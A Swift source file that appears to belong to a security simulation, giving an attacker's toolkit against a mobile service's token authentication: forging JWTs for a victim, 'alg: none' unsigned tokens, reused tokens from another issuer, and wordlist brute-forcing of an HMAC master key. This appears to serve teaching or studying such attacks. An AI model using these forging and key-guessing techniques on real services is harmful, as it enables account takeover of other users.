import FlowsShared
import HTTPModel
import JOSE
import Simulation
import TranscriptModel
import Vocabulary
import WireFormats

/// What an attacker does with tokens of a mobile service.
extension AttackerTools {
  /// Reads the table with a token.
  func readTable(token: WireText) async {
    var request = HTTPRequest.get(
      URI(CustomTokenWorld.tableURL),
      fields: [
        "Accept": MediaType.json, "X-ZUMO-APPLICATION": CustomTokenWorld.applicationKey,
      ])
    request.fields.append(MobileService.tokenField, token)
    _ = await seat.send(request, as: .tableRequest)
  }

  /// Makes an account, as anybody can; its token if that worked.
  func signUp(as username: WireText) async -> WireText? {
    let body = JSONValue.object(
      JSONMember(ParameterName.username.rawValue, .string(username)),
      JSONMember(ParameterName.password.rawValue, .string(madeUp(12, for: "password"))))
    let json = await post(body, to: MobileService.Path.createUser, as: .createUserRequest)
    return json?["token"]?.stringValue
  }

  /// Sends JSON to the service, in the name of the app; the JSON of the answer.
  func post(_ body: JSONValue, to path: WireText, as name: MessageName) async -> JSONValue? {
    let url = URI(CustomTokenWorld.service + path)
    let request = HTTPRequest(
      method: "POST", url: url,
      fields: [
        "Host": url.authority ?? "", "Content-Type": MediaType.json, "Accept": MediaType.json,
        "X-ZUMO-APPLICATION": CustomTokenWorld.applicationKey,
      ], body: HTTPBody(body.compactText))
    return await seat.send(request, as: name)?.response.json
  }

  /// Signs a token for the victim with a key that may or may not be the service's.
  func forge(knowing known: ForgeTokenValue.Knowledge, key: [UInt8]) async -> WireText {
    let token = SignedToken(
      header: TokenScript.documented.header, claims: claims(), key: key)
    let made = token.values
    let values: [ForgeTokenValue: WireText?] = [
      .known: known.rawValue, .header: made[.header] ?? nil, .claims: made[.claims] ?? nil,
      .key: made[.key] ?? nil, .signingInput: made[.signingInput] ?? nil,
      .signature: made[.signature] ?? nil, .token: token.text,
    ]
    await seat.calculate(values, commands: token.commands)
    return token.text
  }

  /// Writes a token for the victim that is not signed.
  func writeUnsigned() async -> WireText {
    let header = JSONValue.object(JSONMember("alg", "none"), JSONMember("kid", "0"))
    let claims = claims()
    let input = JWSSigningInput(header: header, payload: Array(claims.compactText.utf8))
    let token = input.joined(with: [])
    let values: [ForgeTokenValue: WireText?] = [
      .known: ForgeTokenValue.Knowledge.nothing.rawValue, .header: header.compactText,
      .claims: claims.compactText, .token: token,
    ]
    await seat.calculate(
      values,
      commands: [
        ShellCommand.signingInput(header: header.compactText, claims: claims.compactText)
          + "; printf ."
      ])
    return token
  }

  /// Brings a token that somebody else signed, with a key that the attacker does not know.
  func bring(
    knowing known: ForgeTokenValue.Knowledge, signedWith masterKey: WireText,
    issuer: WireText = MobileService.issuer, audience: WireText = MobileService.facebookProvider
  ) async -> WireText {
    let token = SignedToken(
      header: TokenScript.documented.header, claims: claims(issuer: issuer, audience: audience),
      key: MasterKeyDerivation.digest.key(of: masterKey))
    let values: [ForgeTokenValue: WireText?] = [.known: known.rawValue, .token: token.text]
    await seat.calculate(values)
    return token.text
  }

  /// Tries words as master keys, against a token that the service made.
  func searchMasterKey(of sample: WireText) async -> WireText? {
    let words = KeySearchValue.words
    let jws = try? UnverifiedJWS(parsing: sample)
    let found = jws.flatMap { jws in
      words.firstIndex { word in
        let key = MasterKeyDerivation.digest.key(of: word)
        let code = HMAC.authenticationCode(for: jws.signingInput, key: key, using: .sha256)
        return ConstantTime.areEqual(code, jws.signature)
      }
    }
    let word = found.map { words[$0] }
    let values: [KeySearchValue: WireText?] = [
      .sampleToken: sample, .guesses: "\((found ?? words.count - 1) + 1)",
      .foundMasterKey: word ?? KeySearchValue.notFound,
    ]
    await seat.calculate(values)
    return word
  }

  /// The claims that a good token for the victim has.
  private func claims(
    issuer: WireText = MobileService.issuer, audience: WireText = MobileService.facebookProvider
  ) -> JSONValue {
    .object(
      JSONMember("exp", .integer(environment.clock.now + 3600)),
      JSONMember("iss", .string(issuer)), JSONMember("ver", .integer(2)),
      JSONMember("aud", .string(audience)), JSONMember("uid", .string(CustomTokenWorld.victim)))
  }
}
